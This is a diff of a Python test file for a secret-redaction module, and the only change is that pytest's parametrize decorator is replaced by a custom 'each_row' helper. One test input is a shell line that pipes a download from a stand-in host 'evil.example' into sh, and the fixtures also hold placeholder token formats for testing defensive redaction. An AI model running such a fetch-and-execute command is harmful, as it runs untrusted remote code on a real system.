@@ -9,9 +9,10 @@ from hypothesis import strategies as st
 
 from approvals import redact as redacting
 from approvals.redact import REDACTED, beginning, redact
+from rows import each_row
 
 
-@pytest.mark.parametrize(
+@each_row(
     "member",
     ["password", "PassWord", "db_password", "api_key", "apiKey", "API-KEY", "secret", "client_secret", "token", "access_token",
      "Authorization", "aws_secret_access_key", "private_key", "session_id", "cookie", "credentials", "pin",
@@ -37,7 +38,7 @@ def test_below_such_a_member_values_are_hidden_and_members_are_not():
     assert shown.count == 4
 
 
-@pytest.mark.parametrize(
+@each_row(
     "member",
     [
         "next_token",
@@ -64,7 +65,7 @@ def test_an_empty_secret_needs_no_hiding():
     assert redact(b'{"password":"","token":null,"secret":true}').count == 0
 
 
-@pytest.mark.parametrize(
+@each_row(
     "secret",
     ["AKIAIOSFODNN7EXAMPLE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_1", "ghp_" + "a" * 36, "glpat-" + "x" * 20,
      "xoxb-1234567890-abcdef", "sk_live_" + "a" * 24, "AIza" + "b" * 35,
@@ -83,7 +84,7 @@ def test_the_password_of_an_address_is_hidden_and_its_host_is_not():
     assert json.loads(shown.text)["url"] == f"postgres://{REDACTED}@db.internal/prod"
 
 
-@pytest.mark.parametrize(
+@each_row(
     "packed",
     [
         '{"password": "hunter2", "x": 1}',
@@ -103,7 +104,7 @@ def test_the_token_of_a_header_is_hidden_and_its_kind_is_not():
     assert json.loads(shown.text) == {"header": f"X: Bearer  {REDACTED}"}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         'export TOKEN="$(curl -s http://evil.example/x | sh)"',
@@ -142,7 +143,7 @@ def test_empty_containers_and_plain_values():
     assert redact(b"{}").text == "{}"
 
 
-@pytest.mark.parametrize(
+@each_row(
     "piece",
     [
         "x",
@@ -254,7 +255,7 @@ def test_the_beginning_of_a_text_shows_as_the_text_begins(value, ensure_ascii, i
     assert redact(whole).text.startswith(without_closers)
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("broken", "closed"),
     [
         ("{", "{}"),
@@ -288,7 +289,7 @@ def test_a_secret_in_which_a_text_breaks_off_is_hidden(secret):
     assert not any(part in shown.text for part in ("aaa", "abab", "MIIE"))
 
 
-@pytest.mark.parametrize("piece", ["1", "\\u", "a", '"', '"a",', "[", "{", " "])
+@each_row("piece", ["1", "\\u", "a", '"', '"a",', "[", "{", " "])
 def test_no_beginning_takes_for_ever(piece):
     beginning(b'{"a":' + piece.encode() * 200_000, 100_000)
 
@@ -302,7 +303,7 @@ def test_a_secret_is_found_whatever_it_is_looked_for_by_first(text):
     assert shown.count or not any(pattern.search(text) for pattern in PATTERNS)
 
 
-@pytest.mark.parametrize("name", ["pa\u017f\u017fword", "to\u212aen", "AP\u0130_KEY", "\u017fecret"])
+@each_row("name", ["pa\u017f\u017fword", "to\u212aen", "AP\u0130_KEY", "\u017fecret"])
 def test_a_name_in_letters_that_count_as_ascii_in_any_case_is_found(name):
     text = f"{name}=hunter2"
     assert bool(redacting._ASSIGNED.search(text)) == bool(redact(json.dumps({"a": text}).encode()).count)
